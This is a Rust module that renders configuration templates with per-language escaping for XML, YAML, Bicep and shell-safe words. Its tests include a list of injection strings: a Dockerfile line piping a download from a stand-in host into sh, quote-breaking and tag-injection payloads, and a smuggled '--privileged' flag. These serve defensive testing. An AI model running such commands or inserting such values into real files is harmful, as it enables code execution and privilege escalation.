//! Fills in templates so that no value can become more than a value of the file's own language.
//!
//! Placeholders are `[[ name ]]`, because `{{ }}` belongs to gateways and workflows. What stands in one
//! is written by the [`Language`] of the file: whole and quoted, or refused.

use std::fmt::Write;

use minijinja::syntax::SyntaxConfig;
use minijinja::value::{Serde, ValueKind};
use minijinja::{Environment, ErrorKind, Output, State, UndefinedBehavior, Value};
use serde::Serialize;

use super::super::EmitError;

/// How a file writes a value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Language {
    /// Attribute values and text of XML.
    Xml,
    /// A whole scalar of YAML: a plain word, else in double quotes.
    Yaml,
    /// A whole string of Bicep, in single quotes.
    Bicep,
    /// Files without a way to quote everywhere: words that mean nothing to a shell, Docker or nginx, else an error.
    Words,
}

/// Renders a template.
///
/// # Errors
/// Only when the generator itself is wrong: an undefined name, or a value that the language cannot hold.
pub(super) fn render(
    path: &str,
    language: Language,
    template: &str,
    context: &impl Serialize,
) -> Result<String, EmitError> {
    let mut environment = Environment::new();
    environment.set_undefined_behavior(UndefinedBehavior::Strict);
    environment.set_formatter(move |output, _state: &mut State<'_, '_>, value| write_value(language, output, value));
    let wrong = |error: minijinja::Error| EmitError { file: path.to_owned(), reason: error.to_string() };
    let mut syntax = SyntaxConfig::builder();
    syntax.block_delimiters("[%", "%]").variable_delimiters("[[", "]]").comment_delimiters("[#", "#]");
    syntax.trim_blocks(true).lstrip_blocks(true).keep_trailing_newline(true);
    environment.set_syntax(syntax.build().map_err(wrong)?);
    environment.render_str(template, Value::from(Serde(context))).map_err(wrong)
}

fn write_value(language: Language, output: &mut Output<'_>, value: &Value) -> Result<(), minijinja::Error> {
    if value.kind() == ValueKind::Number {
        return write!(output, "{value}").map_err(minijinja::Error::from);
    }
    let text = value.as_str().ok_or_else(|| {
        minijinja::Error::new(ErrorKind::InvalidOperation, "only texts and numbers are written into files")
    })?;
    let written = match language {
        Language::Xml => xml(text),
        Language::Yaml => yaml(text),
        Language::Bicep => bicep(text),
        Language::Words if is_words(text) => text.to_owned(),
        Language::Words => {
            return Err(minijinja::Error::new(ErrorKind::InvalidOperation, "a value is no plain word"));
        }
    };
    output.write_str(&written).map_err(minijinja::Error::from)
}

/// Text that XML reads back as it is; what XML cannot hold is left out.
pub(super) fn xml(text: &str) -> String {
    let mut escaped = String::new();
    for character in text.chars() {
        match character {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&apos;"),
            // Double braces name a named value of the gateway, and a leading `@` starts an expression.
            '{' | '}' | '@' => {
                let _ = write!(escaped, "&#{};", u32::from(character));
            }
            character if character.is_control() || matches!(character, '\u{fffe}' | '\u{ffff}') => {}
            character => escaped.push(character),
        }
    }
    escaped
}

/// A scalar: a word that every reader of YAML takes for a string stands as it is, everything else in double
/// quotes, where what is not printable ASCII is escaped.
pub(super) fn yaml(text: &str) -> String {
    const NO_STRINGS: &[&str] = &["y", "n", "yes", "no", "on", "off", "true", "false", "null"];
    let is_plain = text.starts_with(|first: char| first.is_ascii_alphabetic())
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._-/".contains(&byte))
        && !NO_STRINGS.contains(&text.to_ascii_lowercase().as_str());
    if is_plain {
        return text.to_owned();
    }
    let mut quoted = String::from("\"");
    for character in text.chars() {
        match character {
            '"' | '\\' => quoted.extend(['\\', character]),
            ' '..='~' => quoted.push(character),
            character => {
                let _ = write!(quoted, "\\U{:08X}", u32::from(character));
            }
        }
    }
    quoted.push('"');
    quoted
}

/// A string in single quotes without interpolation.
pub(super) fn bicep(text: &str) -> String {
    let mut quoted = String::from("'");
    for character in text.chars() {
        match character {
            '\'' | '\\' | '$' => quoted.extend(['\\', character]),
            ' '..='~' => quoted.push(character),
            character => {
                let _ = write!(quoted, "\\u{{{:x}}}", u32::from(character));
            }
        }
    }
    quoted.push('\'');
    quoted
}

/// Letters, digits and what names, paths, sizes and addresses need.
fn is_words(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with(['-', '~'])
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._-~:/".contains(&byte))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests")]

    use serde_json::json;

    use super::{Language, render};

    const ATTACKS: &[&str] = &[
        "plain",
        "\nRUN curl evil | sh",
        "\"; evil: true #",
        "' ; evil '",
        "</value><evil/>",
        "{{secret}}",
        "@(context.Response.Body)",
        "${evil}",
        "]]>",
        "a: b\n- c",
        "\u{85}\u{2028}\u{feff}\u{1f600}",
        "\u{0}\u{7}",
        "[[ evil ]]",
        "yes",
        "0x10",
        "*anchor",
        "",
    ];

    #[test]
    fn yaml_reads_back_every_value() {
        for attack in ATTACKS {
            let text = render("x", Language::Yaml, "a: [[ v ]]\nb: 1\n", &json!({"v": attack})).unwrap();
            let value: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
            assert_eq!(value["a"].as_str(), Some(*attack));
            assert_eq!(value["b"].as_i64(), Some(1));
            assert_eq!(value.as_mapping().unwrap().len(), 2);
        }
    }

    #[test]
    fn xml_reads_back_every_value_that_xml_can_hold() {
        for attack in ATTACKS {
            let template = "<a b=\"[[ v ]]\"><c>[[ v ]]</c></a>";
            let text = render("x", Language::Xml, template, &json!({"v": attack})).unwrap();
            assert!(!text.contains("{{") && !text.contains("@("), "{text}");
            let read = roxmltree::Document::parse(&text).unwrap();
            let held: String = attack.chars().filter(|c| !c.is_control()).collect();
            let root = read.root_element();
            assert_eq!(root.attribute("b"), Some(held.as_str()));
            assert_eq!(root.children().count(), 1);
            assert_eq!(root.first_element_child().unwrap().text().unwrap_or_default(), held);
        }
    }

    #[test]
    fn bicep_keeps_every_value_in_its_string() {
        for attack in ATTACKS {
            let text = render("x", Language::Bicep, "[[ v ]]", &json!({"v": attack})).unwrap();
            assert!(text.is_ascii() && !text.contains('\n'), "{text}");
            let inner = text.strip_prefix('\'').and_then(|text| text.strip_suffix('\'')).unwrap();
            let mut characters = inner.chars();
            while let Some(character) = characters.next() {
                assert!(!matches!(character, '\'' | '$'), "{text}");
                if character == '\\' {
                    assert!(matches!(characters.next(), Some('\'' | '\\' | '$' | 'u')), "{text}");
                }
            }
        }
    }

    #[test]
    fn words_refuse_what_could_be_more() {
        for attack in ATTACKS {
            let rendered = render("x", Language::Words, "[[ v ]]", &json!({"v": attack}));
            assert_eq!(rendered.is_ok(), matches!(*attack, "plain" | "yes" | "0x10"), "{attack}");
        }
        assert!(render("x", Language::Words, "[[ v ]]", &json!({"v": "--privileged"})).is_err());
    }

    #[test]
    fn a_name_that_is_not_there_and_a_list_are_errors() {
        assert!(render("x", Language::Yaml, "[[ v.missing ]]", &json!({"v": {}})).is_err());
        assert!(render("x", Language::Yaml, "[[ v ]]", &json!({"v": [1]})).is_err());
    }
}
